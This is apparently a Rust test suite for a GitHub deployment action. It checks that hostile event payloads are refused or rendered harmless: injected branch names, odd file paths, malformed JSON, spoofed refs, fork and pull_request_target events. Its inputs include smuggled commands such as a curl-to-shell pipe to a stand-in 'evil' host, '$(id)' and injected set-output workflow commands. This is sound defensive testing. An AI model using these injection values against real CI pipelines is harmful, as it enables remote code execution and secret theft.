//! Rows 4 to 6, 16 to 21 and 23 to 26: events.

use super::pushed;
use serde_json::{Value, json};
use testworld::event::ZEROS;
use testworld::{Event, Kind, Repo, World};

fn touch(repo: &Repo) -> &Repo {
    repo.write("services/api/x", "1")
}

fn opened() -> World {
    World::new()
        .three_services()
        .pull_request(7, touch)
        .image("api", Kind::Amd64)
}

#[test]
fn row_04_a_branch_name_reaches_no_tag_and_no_command() {
    let names = [
        "x\";curl evil|sh".to_owned(),
        "$(id)".into(),
        "##[set-output name=image-tag]latest".into(),
        "\n::set-output name=tags::evil".into(),
        "\r::set-output name=tags::evil".into(),
        "e".repeat(10_000),
        "\u{202e}gnissim".into(),
    ];
    for name in names {
        let mut world =
            opened().payload(|payload| payload["pull_request"]["head"]["ref"] = json!(name));
        world.event.as_mut().unwrap().head_ref = name.replace('\0', "");
        let run = world.plan().expect_planned([]);
        let tag = format!("pr-7-{}", run.world.commit());
        for (output, wanted) in [
            ("version", tag.as_str()),
            ("tag-names", &tag),
            ("services", "[]"),
            ("builds", "0"),
        ] {
            run.equal(output, &run.output(output), &wanted);
        }
        assert!(!run.output_file.contains("evil"));
    }
}

#[test]
fn row_05_titles_bodies_labels_and_messages_are_never_read() {
    // They hold markers in every world.
    let run = opened().verify().expect_verified();
    for text in ["curl evil", "evil", "set-output"] {
        assert!(
            !run.stdout.contains(text) && !run.stderr.contains(text) && !run.summary.contains(text),
            "{text}"
        );
    }
}

#[test]
fn row_06_a_changed_path_is_matched_as_bytes_and_told_harmlessly() {
    let long = format!("services/api/{}", "d/".repeat(1500) + "x");
    let names: [&[u8]; 7] = [
        b"services/api/na\nme ##[set-output name=t]x",
        b"services/api/\n::set-output name=tags::evil",
        b"services/api/\r::set-output name=tags::evil",
        "services/api/\u{e9};$(id).rs".as_bytes(),
        b"services/api/\xff\xfe",
        b"services/api/<img src=x>|`@team`",
        b"services/api/..x",
    ];
    for name in names {
        let make = || {
            World::new()
                .three_services()
                .push_to_main(|repo| repo.write_bytes(name, b"1"))
                .images()
        };
        let run = make().deploy().expect_accepted(["api"]);
        assert!(!run.output_file.contains("set-output") && !run.output_file.contains("evil"));
    }
    let add = |repo: &Repo| {
        // Longer than the file system takes: git's index takes it.
        let blob = repo.git(&["hash-object", "-w", "services/api/main.txt"]);
        repo.git(&[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("100644,{blob},{long}"),
        ]);
        repo.git(&["commit", "-q", "-m", "long"]);
        repo.head()
    };
    let world = World::new().three_services();
    let before = world.base();
    let after = add(&world.origin);
    let world = world
        .on_event(|_| Event::push("refs/heads/main", &before, &after, &after))
        .images();
    world
        .checkout(testworld::Checkout::None)
        .deploy()
        .expect_accepted(["api"]);
}

#[test]
fn row_16_an_event_file_that_is_none_is_refused() {
    let nested = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let good = pushed().event.as_ref().unwrap().payload.clone();
    let mut wrong_types: Vec<Vec<u8>> = Vec::new();
    for key in ["ref", "after", "before", "repository", "deleted"] {
        let mut payload = good.clone();
        payload[key] = json!([1]);
        wrong_types.push(payload.to_string().into_bytes());
    }
    let doubled = good
        .to_string()
        .replacen('{', "{\"ref\":\"refs/heads/x\",", 1)
        .into_bytes();
    let cut = good.to_string().into_bytes()[..100].to_vec();
    let others: Vec<Vec<u8>> = vec![
        vec![],
        b" ".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"7".to_vec(),
        b"\xff\xfe{}".to_vec(),
        nested.into(),
        doubled,
        cut,
    ];
    for bytes in others.into_iter().chain(wrong_types) {
        pushed().raw_event(bytes).deploy().expect_refusal();
    }
    let mut huge = b"{\"x\":\"".to_vec();
    huge.resize(100 << 20, b'a');
    pushed().raw_event(huge).deploy().expect_refusal();
    let world = pushed().variable("GITHUB_EVENT_PATH", "/nowhere/event.json");
    world.deploy().expect_refusal();
    pushed()
        .without_variable("GITHUB_EVENT_PATH")
        .deploy()
        .expect_refusal();
    pushed()
        .without_variable("GITHUB_EVENT_NAME")
        .deploy()
        .expect_refusal();
    // Keys that nobody knows are no reason to stop.
    pushed()
        .payload(|payload| payload["brand_new_key"] = json!({"a": [1, 2, {"b": null}]}))
        .deploy()
        .expect_accepted(["api"]);
}

#[test]
fn row_17_a_payload_of_another_event_is_refused() {
    let mut world = pushed();
    world.event.as_mut().unwrap().name = "pull_request".into();
    world.deploy().expect_refusal();
    let mut world = opened();
    world.event.as_mut().unwrap().name = "push".into();
    world.deploy().expect_refusal();
    let mut world = opened();
    world.event.as_mut().unwrap().name = "workflow_run".into();
    world.deploy().expect_refusal();
}

#[test]
fn row_18_only_the_exact_ref_deploys() {
    let on = |git_ref: &str| {
        let make = move |world: &World| {
            let head = world.origin.head();
            Event::push(
                git_ref,
                &world.origin.git(&["rev-parse", "HEAD~1"]),
                &head,
                &head,
            )
        };
        World::new()
            .three_services()
            .commit_on_main(touch)
            .on_event(make)
            .images()
    };
    for git_ref in [
        "refs/tags/main",
        "refs/heads/refs/tags/prod-5",
        "refs/heads/prod-5",
        "refs/heads/Main",
        "refs/heads/main-x",
    ] {
        on(git_ref).deploy().expect_nothing();
    }
    for git_ref in ["main", "refs/pull/7/merge", "refs/notes/x"] {
        let run = on(git_ref).deploy().no_hooks();
        assert!(run.output("outcome") != "accepted");
    }
    // The environment's branch is what counts, not the name of the default branch; `latest` is the default branch's.
    let run = on("refs/heads/main")
        .payload(|payload| payload["repository"]["default_branch"] = json!("master"))
        .plan()
        .no_hooks();
    assert!(!run.output("matrix").contains("latest"));
    on("refs/heads/main")
        .payload(|payload| payload["deleted"] = json!(true))
        .deploy()
        .expect_nothing();
    let run = on("refs/heads/main")
        .payload(|payload| payload["before"] = json!(ZEROS))
        .deploy();
    run.ended(0, "accepted", "")
        .hooked(&["api", "workers", "web"]);
}

#[test]
fn row_19_a_tag_that_is_no_release_calls_no_hook() {
    for tag in [
        "prod-",
        "prod-0",
        "prod-007",
        "prod-5-x",
        "prod-99999999999999999999",
    ] {
        let run = World::new()
            .three_services()
            .push_tag(tag)
            .images()
            .deploy()
            .no_hooks();
        assert!(run.exit != 0, "{tag} begins like a release and was let go");
    }
    World::new()
        .three_services()
        .push_tag("PROD-5")
        .images()
        .deploy()
        .expect_nothing();
    let world = World::new().three_services().push_tag("prod-5").images();
    world
        .payload(|payload| payload["ref"] = json!("refs/tags/prod-5\n"))
        .deploy()
        .no_hooks();
    let moved = World::new()
        .three_services()
        .push_tag("prod-5")
        .images()
        .payload(|payload| {
            payload["forced"] = json!(true);
            payload["created"] = json!(false);
            payload["before"] = json!("b".repeat(40));
        });
    moved.deploy().expect_stopped("release-moved");
}

#[test]
fn row_20_a_tag_is_peeled_to_its_commit_or_refused() {
    let world = World::new().three_services().push_annotated_tag("prod-1");
    let commit = world.commit();
    let tags = [commit.as_str(), "prod-1"];
    let world = ["api", "workers", "web"]
        .into_iter()
        .fold(world, |world, name| {
            world.image_tagged(name, Kind::Amd64, &commit, &tags)
        });
    let run = world.deploy().expect_accepted(["api", "workers", "web"]);
    assert_eq!(run.output("sha"), commit);

    // A tag of a tag, without the commit in the payload: it has to be peeled.
    let world = World::new().three_services();
    world.base();
    let inner = world.origin.annotated_tag("inner", "HEAD");
    world.origin.annotated_tag("prod-1", &inner);
    let world = world
        .on_event(|world| Event::tag(&world.origin, "prod-1"))
        .payload(|payload| payload["head_commit"] = Value::Null);
    let run = world.plan().expect_planned(["api", "workers", "web"]);
    assert_eq!(run.output("sha"), run.world.origin.head());

    // A tag of a tree, and of a blob.
    for target in ["HEAD^{tree}", "HEAD:docs/readme.md"] {
        let world = World::new().three_services();
        let head = world.base();
        let object = world.origin.annotated_tag("prod-1", target);
        let event = Event::push("refs/tags/prod-1", ZEROS, &object, &head);
        let world = world
            .on_event(|_| event)
            .payload(|payload| payload["head_commit"] = Value::Null);
        let run = world.deploy().no_hooks();
        assert!(run.exit != 0, "{target}");
    }
}

#[test]
fn row_21_a_release_that_is_on_no_branch_is_refused() {
    for checkout in [
        testworld::Checkout::Full,
        testworld::Checkout::Shallow,
        testworld::Checkout::None,
    ] {
        let world = World::new().three_services();
        world.base();
        world.origin.git(&["checkout", "-q", "-b", "side"]);
        world.origin.write("services/api/x", "1");
        world.origin.commit("beside");
        world.origin.tag("prod-1", "HEAD");
        world.origin.git(&["checkout", "-q", "main"]);
        let world = world
            .on_event(|world| Event::tag(&world.origin, "prod-1"))
            .images()
            .checkout(checkout);
        let run = world.deploy().no_hooks();
        assert!(run.exit == 1, "{checkout:?}");
    }
}

#[test]
fn row_23_the_close_of_a_merged_pull_request_is_no_push() {
    for command in ["deploy", "verify", "plan"] {
        let event = |world: &World| {
            let head = world.origin.head();
            Event::merged_close(7, &head, &head, &head)
        };
        pushed().on_event(event).run(command).expect_nothing();
    }
}

#[test]
fn row_24_a_fork_never_deploys_and_is_a_soft_skip() {
    let one_warning = |world: World| {
        let run = world.of_a_fork().deploy().expect_skipped();
        assert!(
            run.annotations("warning").len() <= 1,
            "{:?}",
            run.annotations("warning")
        );
    };
    let without_images = || World::new().three_services().pull_request(7, touch);
    one_warning(without_images());
    one_warning(
        without_images()
            .payload(|payload| payload["pull_request"]["head"]["repo"] = Value::Null)
            .payload(|payload| {
                payload["pull_request"]["head"]["user"] = Value::Null;
            }),
    );
    // The same id under another name, and another id under the same name.
    let world = without_images().payload(|payload| {
        payload["pull_request"]["head"]["repo"]["full_name"] = json!("mallory/shop")
    });
    world.input("deploy-hooks", "").deploy().expect_skipped();
    let world = without_images()
        .payload(|payload| payload["pull_request"]["head"]["repo"]["id"] = json!(5));
    let run = world.input("deploy-hooks", "").verify().no_hooks();
    assert!(
        run.exit == 0 && run.took.as_secs() < 20,
        "it waited for a fork's image"
    );
}

#[test]
fn row_25_dependabot_is_a_soft_skip() {
    let mut world = World::new()
        .three_services()
        .pull_request(7, touch)
        .input("deploy-hooks", "")
        .input("registry-password", "");
    world.event.as_mut().unwrap().actor = "dependabot[bot]".into();
    let world = world.payload(|payload| payload["sender"]["login"] = json!("dependabot[bot]"));
    let world = world
        .payload(|payload| payload["pull_request"]["user"]["login"] = json!("dependabot[bot]"));
    let run = world.deploy().expect_skipped();
    assert!(run.took.as_secs() < 20);
}

#[test]
fn row_26_what_a_fork_starts_with_our_secrets_is_refused() {
    let target = |world: &World| {
        let head = world.origin.head();
        let mut event = Event::pull_request("opened", 7, &head, &head, &head);
        event.name = "pull_request_target".into();
        event
    };
    pushed().on_event(target).deploy().expect_refusal();
    let run = |world: &World| Event::workflow_run(&world.origin.head());
    let of = |head_repository: Value| {
        pushed()
            .on_event(run)
            .payload(|payload| payload["workflow_run"]["head_repository"] = head_repository)
    };
    let mut fork = testworld::event::repository();
    fork["id"] = json!(777);
    fork["full_name"] = json!("mallory/shop");
    of(fork.clone()).deploy().expect_refusal();
    of(Value::Null).deploy().expect_refusal();
    fork["id"] = testworld::event::repository()["id"].clone();
    of(fork).deploy().expect_refusal();
}
